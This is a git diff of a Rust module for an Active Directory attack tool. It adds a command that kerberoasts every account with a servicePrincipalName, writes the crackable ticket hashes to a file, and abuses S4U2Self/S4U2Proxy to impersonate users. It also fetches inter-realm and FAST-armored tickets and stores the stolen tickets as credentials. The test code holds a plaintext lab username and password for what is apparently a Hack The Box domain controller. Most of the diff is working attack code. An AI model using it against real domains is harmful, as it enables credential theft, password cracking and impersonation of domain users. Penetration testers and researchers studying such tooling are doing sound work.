@@ -1,11 +1,194 @@
-use crate::{app::App, cli::commands::Command};
+use std::path::PathBuf;
+
 use clap::Args;
+use himmelblau_kerberos_constants::principal_names::NT_SRV_INST;
+use ldap3::SearchEntry;
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{credential::AuthMethod, AuthData, CredentialType},
+    kerberos::{
+        fast::{armored_service_ticket, armored_tgt},
+        roast::krb5tgs_hash,
+        s4u::{s4u2proxy, s4u2self},
+        tgs::{request_inter_realm_tgt, request_service_ticket, request_service_ticket_with_referrals, DEFAULT_ETYPES},
+        ticket::{encode_ticket, get_tgt, principal_name, session_ticket_from_ccache},
+        Etype,
+    },
+};
+
+/// Enabled user accounts (not krbtgt) with a servicePrincipalName
+const KERBEROASTABLE_FILTER: &str = "(&(samAccountType=805306368)(servicePrincipalName=*)(!(sAMAccountName=krbtgt))(!(userAccountControl:1.2.840.113556.1.4.803:=2)))";
 
 #[derive(Debug, Args, Clone)]
-pub struct TgsArgs {}
+pub struct TgsArgs {
+    /// Request service tickets for every user account with a servicePrincipalName
+    #[arg(long)]
+    pub kerberoast: bool,
+
+    /// Service principal to request a ticket for (e.g. cifs/dc.voleur.htb)
+    #[arg(long, conflicts_with = "kerberoast")]
+    pub spn: Option<String>,
+
+    /// Impersonate a user with S4U2Self / S4U2Proxy when requesting --spn
+    #[arg(long, requires = "spn")]
+    pub impersonate: Option<String>,
+
+    /// Realm of the service when it is in a trusted domain or forest, an inter-realm TGT is requested first
+    #[arg(long, requires = "spn", conflicts_with = "impersonate")]
+    pub realm: Option<String>,
+
+    /// Armor the exchanges (FAST) with the TGT of this stored credential, the TGS-REQ is armored by the user TGT
+    #[arg(long, requires = "spn", conflicts_with_all = ["impersonate", "realm"])]
+    pub armor: Option<String>,
+
+    /// Encryption type to request (defaults to RC4 with AES fallback)
+    #[arg(short, long, value_enum)]
+    pub etype: Option<Etype>,
+
+    /// File to write the roasted hashes to
+    #[arg(short, long, default_value = "kerberoast.txt")]
+    pub output: PathBuf,
+
+    /// Authentication protocol for LDAP
+    #[arg(long, value_enum, default_value_t = AuthMethod::Auto)]
+    pub auth: AuthMethod,
+}
+
+impl TgsArgs {
+    fn etypes(&self) -> Vec<i32> {
+        match self.etype {
+            Some(etype) => vec![etype.into()],
+            None => DEFAULT_ETYPES.to_vec(),
+        }
+    }
+
+    async fn kerberoast(&self, app: &mut App) -> Result<(), String> {
+        let (dc, creds) = app.get_current_context()?;
+        let tgt = get_tgt(&app.domain_controller_storage, &dc, &creds).await?;
+
+        let mut ldap = app.ldap_session(self.auth).await?;
+        let targets: Vec<SearchEntry> = ldap
+            .search(KERBEROASTABLE_FILTER, vec!["sAMAccountName", "servicePrincipalName"])
+            .await?;
+
+        if targets.is_empty() {
+            println!("No kerberoastable accounts found");
+            return Ok(());
+        }
+
+        let etypes = self.etypes();
+        let mut hashes = Vec::new();
+        for target in targets {
+            let Some(sam) = target.attrs.get("sAMAccountName").and_then(|v| v.first()) else {
+                continue;
+            };
+            let Some(spn) = target.attrs.get("servicePrincipalName").and_then(|v| v.first()) else {
+                continue;
+            };
+
+            let tgs_rep = match request_service_ticket(&dc, &tgt, &principal_name(NT_SRV_INST, spn), &etypes).await {
+                Ok(tgs_rep) => tgs_rep,
+                Err(e) => {
+                    println!("Failed to roast {} ({}): {}", sam, spn, e);
+                    continue;
+                }
+            };
+            let enc_part = &tgs_rep.ticket.enc_part;
+            let hash = krb5tgs_hash(enc_part.etype, sam, &tgt.server_realm, spn, &enc_part.cipher);
+            println!("{}", hash);
+
+            app.credential_storage().set_user_metadata(
+                sam,
+                "krb5tgs",
+                &hash,
+                "kerberoast",
+                CredentialType::ServiceAccount,
+            )?;
+            hashes.push(hash);
+        }
+
+        std::fs::write(&self.output, hashes.join("\n") + "\n").map_err(|e| e.to_string())?;
+        println!("{} hashes written to {}", hashes.len(), self.output.display());
+        Ok(())
+    }
+}
+
+impl TgsArgs {
+    async fn request_spn(&self, app: &mut App, spn: &str) -> Result<(), String> {
+        let (dc, creds) = app.get_current_context()?;
+        let tgt = match &self.armor {
+            Some(id) if !matches!(creds.auth_data, AuthData::KerberosTicket(_)) => {
+                let armor = app
+                    .credential_storage()
+                    .get_credential(id)
+                    .cloned()
+                    .ok_or(format!("No credential with id {}", id))?;
+                session_ticket_from_ccache(&armored_tgt(&app.domain_controller_storage, &dc, &creds, &armor).await?)?
+            }
+            _ => get_tgt(&app.domain_controller_storage, &dc, &creds).await?,
+        };
+        let sname = principal_name(NT_SRV_INST, spn);
+        let etypes = self.etypes();
+
+        let ccache = if self.armor.is_some() {
+            armored_service_ticket(&dc, &tgt, &sname, &etypes).await?
+        } else if let Some(impersonate) = &self.impersonate {
+            let s4u2self_ccache = s4u2self(&dc, &tgt, impersonate, &etypes).await?;
+            println!("S4U2Self ticket obtained for {}", impersonate);
+            let s4u2self_ticket = session_ticket_from_ccache(&s4u2self_ccache)?;
+            s4u2proxy(&dc, &tgt, &s4u2self_ticket.ticket, &sname, &etypes, false).await?
+        } else if let Some(realm) = self.realm.as_ref().filter(|r| !r.eq_ignore_ascii_case(&tgt.tgt_realm())) {
+            let (realm_dc, inter_realm_ccache) =
+                request_inter_realm_tgt(&app.domain_controller_storage, &dc, &tgt, realm).await?;
+            let inter_realm_tgt = session_ticket_from_ccache(&inter_realm_ccache)?;
+            println!("Inter-realm TGT obtained for {}", inter_realm_tgt.server_principal());
+
+            let mut tgt_creds = creds.clone();
+            tgt_creds.id = uuid::Uuid::new_v4().to_string();
+            tgt_creds.auth_data = AuthData::KerberosTicket(encode_ticket(inter_realm_ccache));
+            tgt_creds.source = "Tgs".to_string();
+            tgt_creds.target_dc = Some(realm_dc.domain_name.clone());
+            tgt_creds.set_metadata("spn".to_string(), inter_realm_tgt.server_principal());
+            app.credential_storage().add_credential(tgt_creds)?;
+
+            request_service_ticket_with_referrals(&app.domain_controller_storage, &realm_dc, &inter_realm_tgt, &sname, &etypes)
+                .await?
+        } else {
+            request_service_ticket_with_referrals(&app.domain_controller_storage, &dc, &tgt, &sname, &etypes).await?
+        };
+
+        let ticket = session_ticket_from_ccache(&ccache)?;
+        println!("Service ticket obtained for {}", ticket.server_principal());
+
+        let mut new_creds = creds.clone();
+        new_creds.id = uuid::Uuid::new_v4().to_string();
+        if let Some(impersonate) = &self.impersonate {
+            new_creds.username = impersonate.clone();
+            new_creds.credential_type = CredentialType::Unknown;
+            new_creds.privileges = Vec::new();
+            new_creds.set_metadata("impersonated_by".to_string(), creds.username.clone());
+        }
+        new_creds.auth_data = AuthData::KerberosTicket(encode_ticket(ccache));
+        new_creds.source = "Tgs".to_string();
+        new_creds.target_dc = Some(ticket.server_realm.to_lowercase());
+        new_creds.set_metadata("spn".to_string(), ticket.server_principal());
+        app.credential_storage().add_credential(new_creds)?;
+        println!("New credential added to storage !");
+        Ok(())
+    }
+}
 
 impl Command for TgsArgs {
     async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        if self.kerberoast {
+            self.kerberoast(app).await?;
+        } else if let Some(spn) = &self.spn {
+            self.request_spn(app, spn).await?;
+        } else {
+            return Err("Nothing to do, use --kerberoast or --spn".to_string());
+        }
         Ok(false)
     }
 }
@@ -19,13 +202,13 @@ mod test {
     };
     use std::{error::Error, net::Ipv4Addr, str::FromStr};
 
-    use crate::sspi_client::ReqwestNetworkClient;
+    use crate::{data::DomainController, sspi_client::KdcNetworkClient};
 
     fn request_tgt(
         kerberos: &mut Kerberos,
         cred_handle: &mut <Kerberos as SspiImpl>::CredentialsHandle,
         hostname: &str,
-        client: &mut ReqwestNetworkClient,
+        client: &mut KdcNetworkClient,
     ) -> anyhow::Result<(String, SecurityStatus)> {
         // For TGT request, use krbtgt service or the target service
         let target_name = format!("krbtgt/{}", hostname);
@@ -67,6 +250,7 @@ mod test {
     }
 
     #[test]
+    #[ignore = "needs a reachable lab domain controller"]
     fn test_tgs() -> anyhow::Result<()> {
         // Initialize Kerberos security context
 
@@ -74,7 +258,7 @@ mod test {
         let username = "ryan.naylor"; // Replace with your username
         let password = "HollowOct31Nyt"; // Replace with your password
         let domain = "dc.voleur.htb"; // Replace with your domain
-        let mut client = ReqwestNetworkClient::new("10.10.11.76".parse().unwrap());
+        let mut client = KdcNetworkClient::for_dc(&DomainController::new("10.10.11.76".parse()?, "voleur.htb".to_string()));
         let config = KerberosConfig {
             kdc_url: Some(url::Url::parse(format!("tcp://{}:88", domain).as_str())?),
             client_computer_name: Some(domain.to_string()),